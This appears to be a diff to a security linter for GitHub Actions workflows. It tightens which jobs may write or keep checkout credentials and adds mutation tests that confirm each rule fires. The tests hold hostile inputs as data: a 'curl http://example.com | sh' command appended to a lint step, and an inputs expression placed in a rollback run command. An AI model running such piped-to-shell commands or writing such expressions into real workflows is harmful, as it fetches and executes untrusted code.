@@ -41,14 +41,18 @@ PINS = {
 """Tag and commit of each action, as read in the action's own repository."""
 
 WRITERS = {
-    "deploy.yaml": {"build": {"contents"}, "production": {"contents"}, "staging": {"contents"}},
+    "deploy.yaml": {job: {"contents"} for job in ("build", "staging", "production", "report")},
     "pull-request-comment.yaml": {"comment": {"pull-requests"}},
+    "rollback.yaml": {"rollback": {"contents"}},
     "scorecard.yaml": {"scorecard": {"security-events"}},
 }
 """Jobs that may write, and what; no job of another workflow may."""
 
 LAST = {"comment", "dependency-review", "required"}
 """Jobs that end a run: what they have to say is a status or a comment."""
+
+PUSHING = re.compile(r"slipway (promote|release publish|rollback)\b")
+"""Verbs that push; what else writes asks GitHub, with a token of its own."""
 
 PRIVILEGED = {"issue_comment", "issues", "pull_request_review", "pull_request_target", "workflow_run"}
 """Triggers by which a stranger starts something that has the rights of `main`."""
@@ -123,10 +127,11 @@ def actions_are_pinned(workflow: Workflow) -> Iterator[str]:
 
 
 def credentials_stay_only_where_pushing(workflow: Workflow) -> Iterator[str]:
+    pushing = {job for job, step in workflow.steps() if PUSHING.search(step.get("run", ""))}
     for job, step in workflow.steps():
         if step.get("uses", "").startswith("actions/checkout@"):
             kept = step.get("with", {}).get("persist-credentials")
-            if kept is not ("contents" in workflow.writes(job)):
+            if kept is not (job in pushing):
                 yield f"{job}: persist-credentials is {kept}"
 
 
@@ -250,6 +255,9 @@ FAULTS = [
     (actions_are_pinned, "pull-request.yaml", "actions/checkout@", "someone/checkout@"),
     (credentials_stay_only_where_pushing, "pull-request.yaml", "persist-credentials: false", "fetch-tags: false"),
     (credentials_stay_only_where_pushing, "deploy.yaml", "persist-credentials: true", "persist-credentials: false"),
+    (credentials_stay_only_where_pushing, "deploy.yaml", "persist-credentials: false", "persist-credentials: true"),
+    (commands_hold_no_expressions, "rollback.yaml", '"$VERSION"', "${{ inputs.version }}"),
+    (promotions_are_not_cancelled, "rollback.yaml", "cancel-in-progress: false", "cancel-in-progress: true"),
     (steps_are_one_line, "pull-request.yaml", "run: uv run slipway lint", "run: |\n          ls\n          ls"),
     (steps_call_the_command_line, "pull-request.yaml", "uv run slipway lint", "pip install ruff"),
     (steps_call_the_command_line, "pull-request.yaml", "slipway lint", "slipway lint && curl http://example.com | sh"),
